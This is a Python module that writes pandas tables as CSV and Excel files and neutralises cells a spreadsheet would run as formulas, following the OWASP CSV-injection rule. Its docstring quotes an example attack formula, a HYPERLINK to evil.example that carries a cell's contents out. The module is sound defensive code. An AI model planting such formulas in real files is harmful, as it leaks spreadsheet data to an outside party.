"""Tables as CSV and Excel files that are safe to open in a spreadsheet.

A company named `=HYPERLINK("http://evil.example/?x="&A2,"Click")` is data to
us but a formula to Excel or LibreOffice. Every text cell and header that a
spreadsheet would read as a formula (starting with =, +, -, @, tab or carriage
return: the OWASP CSV-injection rule) gets a leading single quote. Numeric
columns are left alone, so -3 stays the number -3.
"""

from __future__ import annotations

import io

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> object:
    """`value` with a leading quote when a spreadsheet would run it as a formula; anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def without_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose headers and text cells cannot run as formulas; numbers and dates untouched."""
    out = frame.copy()
    out.columns = [neutralise(c) for c in out.columns]
    for position in range(out.shape[1]):
        column = out.iloc[:, position]
        if _is_text(column.dtype):
            out.isetitem(position, column.astype(object).map(neutralise, na_action="ignore"))
    return out


def _is_text(dtype: object) -> bool:
    return not (pd.api.types.is_numeric_dtype(dtype) or pd.api.types.is_datetime64_any_dtype(dtype)
                or pd.api.types.is_timedelta64_dtype(dtype) or pd.api.types.is_bool_dtype(dtype))


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """The table as UTF-8 CSV, formulas neutralised."""
    # CRLF rows (RFC 4180): a carriage return inside a cell then gets quoted instead of splitting the row.
    return without_formulas(frame).to_csv(index=False, lineterminator="\r\n").encode()


def excel_bytes(frame: pd.DataFrame, sheet: str) -> bytes:
    """One sheet, dates as dates (Excel has no time zones), formulas neutralised: for people who continue in Excel."""
    safe = without_formulas(frame)
    for column in safe.select_dtypes(include=["datetimetz"]).columns:
        safe[column] = safe[column].dt.tz_localize(None)
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        safe.to_excel(writer, sheet_name=sheet[:31] or "data", index=False)
    return buffer.getvalue()
